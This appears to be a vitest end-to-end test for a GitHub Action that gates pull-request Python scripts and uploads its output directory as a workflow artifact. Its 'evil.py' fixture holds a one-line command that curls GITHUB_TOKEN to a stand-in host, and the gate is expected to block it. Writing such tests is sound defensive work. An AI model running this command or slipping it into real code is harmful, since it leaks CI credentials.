import { createHash } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { artifactDirName } from '../../../src/gate/execute-stage.js';
import { RUN_MARKER } from '../../../src/gate/output-dir.js';
import type { GateReport } from '../../../src/report/types.js';
import {
  type ActionRun,
  type PullRequestFixture,
  runActionBundle,
} from '../../helpers/action-bundle-runner.js';
import { type FakeGitHub, startFakeGitHub } from '../../helpers/fake-github.js';
import { type FakeResultsService, startFakeResultsService } from '../../helpers/fake-results-service.js';
import { commitOnBranch, initRepo } from '../../helpers/git-fixture.js';
import { ensureTestImage } from '../../helpers/test-image.js';
import { zipEntries } from '../../helpers/zip-listing.js';

/**
 * The built Action (dist/index.js) on a pull request, as a runner runs it, with the
 * Actions results service it uploads artifacts to: GitHub's side is the stand-in of
 * test/helpers/fake-results-service.ts (Twirp checked against @actions/artifact's
 * generated types, blob storage against Azure's rules), reached through the
 * ACTIONS_RUNTIME_TOKEN and ACTIONS_RESULTS_URL a runner gives a JavaScript action.
 * Everything else is real: git, Docker, Bandit, the sandbox, the zip.
 */
const REPO = 'octo-org/octo-repo';
// The small test image has Bandit only (see action-e2e.test.ts).
const POLICY = 'version: 1\nextends: default\nscanners:\n  semgrep:\n    mode: optional\n';
const PLOT = `import json, os
out = os.environ["AIRLOCK_OUTPUT_DIR"]
os.makedirs(os.path.join(out, "figures"), exist_ok=True)
with open(os.path.join(out, "figures", "hist.png"), "wb") as f:
    f.write(bytes([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]) + bytes(range(256)) * 40)
with open(os.path.join(out, "stats.json"), "w") as f:
    json.dump({"mean": 3.5}, f)
print("wrote two artifacts")
`;
const EVIL = `import os, subprocess\nsubprocess.call("curl -d " + os.environ.get("GITHUB_TOKEN", "") + " http://x", shell=True)\n`;
const NAME = 'airlock-5150-1-gate';
const URL_OF = (id: string) => `https://github.com/${REPO}/actions/runs/5150/artifacts/${id}`;

let root: string;
let ws: string;
let pr: PullRequestFixture;
let image: string;
let github: FakeGitHub;
let results: FakeResultsService;

const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

function run(withInputs: Record<string, string>): Promise<ActionRun> {
  return runActionBundle({
    scratch: root,
    workspace: ws,
    pr,
    apiUrl: github.url,
    token: github.token,
    with: { paths: 'analysis', image, policy: 'airlock-test-image.yml', 'audit-branch': '', ...withInputs },
    env: { ...results.env(), GITHUB_JOB: 'gate' },
    timeoutMs: 600_000,
  });
}

/** Every file under the output directory, relative, as the runner's disk holds it. */
async function outputFiles(dir: string, prefix = ''): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(join(dir, prefix), { withFileTypes: true })) {
    const rel = prefix ? `${prefix}/${e.name}` : e.name;
    if (e.isDirectory()) out.push(...(await outputFiles(dir, rel)));
    else out.push(rel);
  }
  return out.sort();
}

beforeAll(async () => {
  image = await ensureTestImage();
  root = await mkdtemp(join(tmpdir(), 'airlock-artifact-e2e-'));
  ws = join(root, 'ws');
  const baseSha = await initRepo(ws, { 'README.md': '# fixture\n', 'airlock-test-image.yml': POLICY });
  const headSha = await commitOnBranch(ws, 'feature', { 'analysis/plot.py': PLOT, 'analysis/evil.py': EVIL });
  pr = { repository: REPO, number: 7, baseSha, headSha };
  github = await startFakeGitHub({ repository: REPO });
  results = await startFakeResultsService();
});

afterEach(() => {
  github.assertNoViolations();
  results.assertNoViolations();
  github.reset();
  results.reset();
});

afterAll(async () => {
  await github?.close();
  await results?.close();
  await rm(root, { recursive: true, force: true });
});

describe('the Action uploads its output directory as a workflow artifact', () => {
  it('holds exactly the output directory, hashes as the report lists them; outputs and summary link to it', async () => {
    const r = await run({});
    expect(r.exitCode, r.log).toBe(1); // evil.py is blocked: the upload does not change that
    expect(r.outputs.verdict).toBe('fail');

    // The step outputs name the artifact the service finalized.
    const stored = results.artifacts.get(NAME);
    expect(stored?.id, r.log).toBeDefined();
    expect(r.outputs['artifact-id']).toBe(String(stored!.id));
    expect(r.outputs['artifact-url']).toBe(URL_OF(String(stored!.id)));

    // The zip holds exactly the output directory's files (the run marker aside), byte for byte.
    const out = join(ws, '.airlock/out');
    const entries = await zipEntries(results.zipOf(NAME), root);
    const onDisk = (await outputFiles(out)).filter((p) => p !== RUN_MARKER);
    expect(Object.keys(entries).sort()).toEqual(onDisk);
    for (const p of onDisk) expect(entries[p]?.sha256, p).toBe(sha(await readFile(join(out, p))));
    expect(onDisk).toEqual(expect.arrayContaining(['report.json', 'airlock.sarif', 'summary.md']));

    // Each script artifact in the zip has the sha256 the report gives it.
    const report = JSON.parse(await readFile(join(out, 'report.json'), 'utf8')) as GateReport;
    const index = report.scripts.findIndex((s) => s.path === 'analysis/plot.py');
    const arts = report.scripts[index]?.execution?.artifacts ?? [];
    expect(arts.map((a) => a.path).sort()).toEqual(['figures/hist.png', 'stats.json']);
    for (const a of arts) {
      const entry = entries[`${artifactDirName(index, 'analysis/plot.py')}/${a.path}`];
      expect(entry, a.path).toEqual({ sha256: a.sha256, bytes: a.bytes });
    }

    // The job summary links to it, at the top and from the script's artifact list.
    const url = URL_OF(String(stored!.id));
    expect(r.summary).toContain(
      `📦 **Workflow artifact:** [\`${NAME}\`](${url}): this run's output directory`,
    );
    expect(r.summary).toContain(
      `in the [workflow artifact](${url}) under \`${artifactDirName(index, 'analysis/plot.py')}/\``,
    );
    expect(r.log).toContain(`output directory uploaded as workflow artifact ${NAME}`);
  });

  it('an upload the service refuses (403): a warning and a summary line; the passing verdict stays a pass', async () => {
    results.failNext('CreateArtifact', {
      code: 'permission_denied',
      msg: 'artifact storage is not writable',
    });
    // Only the benign script: the gate passes, and must still pass.
    const r = await run({ paths: 'analysis/plot.py' });
    expect(r.exitCode, r.log).toBe(0);
    expect(r.outputs.verdict).toBe('pass');
    expect(r.log).toMatch(
      /::warning::output directory not uploaded as a workflow artifact: .*403.*artifact storage is not writable/,
    );
    expect(r.summary).toMatch(
      /> ⚠️ \*\*Output not uploaded as a workflow artifact\*\* \(`airlock-5150-1-gate`\): .*403/,
    );
    expect(r.outputs['artifact-id']).toBe('');
    expect(r.outputs['artifact-url']).toBe('');
    expect(results.calls.map((c) => [c.method, c.status])).toEqual([['CreateArtifact', 403]]);
  });

  it('upload-artifact: false asks nothing and says nothing about it', async () => {
    const r = await run({ paths: 'analysis/plot.py', 'upload-artifact': 'false' });
    expect(r.exitCode, r.log).toBe(0);
    expect(results.calls).toEqual([]);
    expect(r.summary).not.toContain('workflow artifact');
    expect(r.outputs['artifact-id']).toBeUndefined();
  });
});
